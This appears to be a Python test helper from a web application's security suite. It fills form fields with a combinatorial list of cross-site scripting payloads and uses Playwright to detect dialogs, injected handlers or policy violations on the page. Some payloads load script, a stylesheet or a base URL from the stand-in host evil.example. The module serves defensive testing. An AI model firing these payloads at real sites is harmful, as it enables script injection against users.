"""Two hundred texts that run on a careless screen, and what notices that one did."""

from collections import defaultdict
from dataclasses import dataclass, field
from itertools import chain, product
from typing import Final

from playwright.sync_api import Page
from typing_extensions import override

from tests.isolation.canaries import Canaries, plain
from tests.world.people import Json

RUNS: Final = "alert(1)"
TAGS: Final = (
    "img src=x onerror",
    "svg onload",
    "svg/onload",
    "body onload",
    "iframe onload",
    "input autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "object data=x onerror",
    "math href=javascript:alert(1) onclick",
    "a href=javascript:alert(1) onmouseover",
    "style onload",
    "textarea autofocus onfocus",
)
"""An element and the handler that runs by itself, or when somebody comes near."""
OUT_OF: Final = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "</style>",
    "</noscript>", "\u200b", "\u202e",
)  # fmt: skip
"""What would end the place that a text was put into."""
OTHERS: Final = (
    "<script data-xss>alert(1)</script>",
    "<ScRiPt data-xss src=//evil.example/x.js></sCrIpT>",
    "<scr\u200bipt data-xss>alert(1)</scr\u200bipt>",
    "<iframe data-xss srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base data-xss href=//evil.example/>",
    "<form data-xss action=javascript:alert(1)><button>Go</button></form>",
    "<button data-xss formaction=javascript:alert(1)>Go</button>",
    "<svg data-xss><script>alert(1)</script></svg>",
    "<svg data-xss><animate onbegin=alert(1) attributeName=x></svg>",
    "<math data-xss><mtext><style><img onerror=alert(1) src=x></style></mtext></math>",
    "javascript:alert(1)",
    "data:text/html,<script data-xss>alert(1)</script>",
    '" onmouseover=alert(1) data-xss x="',
    "' onfocus=alert(1) autofocus data-xss x='",
    "` onload=alert(1) data-xss `",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202eevil\u202c\u2066right\u2069\u200f",
    "e" + "\u0301" * 40,
)
PAYLOADS: Final = (
    *OTHERS,
    *(f"{out}<{tag}={RUNS} data-xss>" for out, tag in product(OUT_OF, TAGS)),
)
MARK_LONG: Final = 9
ROOM: Final = 200
ANY: Final = r"\S"
"""The form of a text that must not be blank; any other form takes no payload."""
KEPT: Final = {"postcode", "nhs_number", "uprn", "case_number"}
"""Fields whose form is checked: a refused request shows nothing."""

WATCH: Final = """
addEventListener('securitypolicyviolation', (found) => {
  (window.brokenPolicy ??= []).push(`${found.violatedDirective} ${found.blockedURI}`)
})
"""
INJECTED: Final = r"""() => {
  const all = [...document.querySelectorAll('*')]
  const runs = ({ name, value }) =>
    name.startsWith('on') || name === 'srcdoc' || name === 'data-xss' ||
    (/^(href|src|action|formaction|data)$/.test(name) &&
      /^\s*(javascript|data:text)/i.test(value))
  return all.flatMap((one) => [...one.attributes].filter(runs).map(({ name }) =>
    `${one.tagName} ${name}`))
}"""
ALL_TEXT: Final = """() => document.body.textContent + '\\n' +
  [...document.querySelectorAll('input, textarea')].map((one) => one.value).join('\\n')
"""


@dataclass(slots=True)
class Scripts(Canaries):
    """Fills free texts with as many payloads as have room, each field going on.

    Attributes:
        exact: Names of fields that stay as they are given.
    """

    room: int = ROOM
    exact: set[str] = field(default_factory=set)
    next_of: defaultdict[str, int] = field(default_factory=lambda: defaultdict(int))

    @override
    def _fill(self, described: Json, where: str, schema: Json, given: object) -> object:
        form = plain(described, schema)
        if form.get("pattern", ANY) != ANY:
            return given
        self.room = form.get("maxLength", ROOM)
        return Canaries._fill(self, described, where, schema, given)

    @override
    def _text(self, where: str, name: str, given: object) -> object:
        return given if name in KEPT | self.exact else self.word(where)

    @override
    def word(self, where: str) -> str:
        text, first = f"qz{next(self.numbers):04x}zq", self.next_of[where]
        for number in chain(range(first, len(PAYLOADS)), range(first)):
            if len(text) + 1 + len(PAYLOADS[number]) > self.room:
                if len(text) > MARK_LONG:
                    break
                continue  # a short one comes further on
            text += f" {PAYLOADS[number]}"
            self.next_of[where] = (number + 1) % len(PAYLOADS)
        self.planted[text] = where
        return text


class Watched:
    """A page on which nothing may run that was typed."""

    def __init__(self, page: Page) -> None:
        """Look from now on, on this document and on each that follows."""
        self.page = page
        self.ran: list[str] = []
        page.on("dialog", self._dialog)
        page.add_init_script(WATCH)
        page.evaluate(WATCH)

    def _dialog(self, opened: object) -> None:
        self.ran.append("a dialog")
        opened.dismiss()  # type: ignore[attr-defined]

    def wrong(self) -> list[str]:
        """What ran, was put into the page, or was refused by its policy."""
        injected: list[str] = self.page.evaluate(INJECTED)
        refused: list[str] = self.page.evaluate("() => window.brokenPolicy ?? []")
        return [*self.ran, *injected, *refused]

    def shows(self, scripts: Scripts) -> set[str]:
        """The fields whose whole text stands on the page as it was typed."""
        return {*scripts.found_in(self.page.evaluate(ALL_TEXT)).values()}
